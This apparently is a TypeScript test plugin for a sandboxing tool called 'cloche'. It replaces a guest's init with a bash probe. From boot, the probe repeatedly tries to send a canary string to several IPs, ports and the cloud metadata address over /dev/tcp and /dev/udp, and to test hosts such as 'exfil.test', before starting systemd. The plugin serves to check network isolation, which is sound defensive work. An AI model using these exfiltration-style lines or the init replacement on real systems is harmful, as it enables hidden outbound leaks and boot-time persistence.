// Puts itself in the place of the guest's first program, and tries to get a canary out from that moment until it is told to stop. What
// an allowed host hears of it is the control. Where it stands in is not the guest's real start: sessions with it boot without a template.
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { definePlugin } from "cloche";
import { z } from "zod";

const PROBE = `#!/bin/bash
log=/var/lib/boot-probe
round() {
  for to in 93.184.216.34 8.8.8.8 10.0.0.1 169.254.169.254 10.0.2.2; do
    for port in 22 53 80 443 8443; do
      { exec 3<>/dev/tcp/$to/$port && echo cloche-canary >&3; exec 3>&-; } 2>/dev/null
      { echo cloche-canary >/dev/udp/$to/$port; } 2>/dev/null
    done
  done
  getent hosts cloche-canary.exfil.test >/dev/null
  { exec 3<>/dev/tcp/resolved.test/80 && printf 'GET /boot-%s HTTP/1.1\\r\\nHost: resolved.test\\r\\n\\r\\n' "$1" >&3; exec 3>&-; } 2>/dev/null
  echo "round $1" >>$log
}
round 1
{
  for number in {2..500}; do
    [ ! -e $log.stop ] || break
    round $number
  done
  echo ended >>$log
} </dev/null >/dev/null 2>&1 &
exec /usr/lib/systemd/systemd "$@"
`;

export default definePlugin({
  name: "boot-probe",
  description: "An attack from the guest's first moment, for the tests.",
  options: z.strictObject({}),
  onByDefault: true,
  build(recipe) {
    recipe.addLayer({
      name: "boot-probe",
      key: { probe: PROBE },
      async make(tree) {
        await mkdir(join(tree, "usr/sbin"), { recursive: true });
        await writeFile(join(tree, "usr/sbin/init"), PROBE, { mode: 0o755 });
      },
    });
  },
});
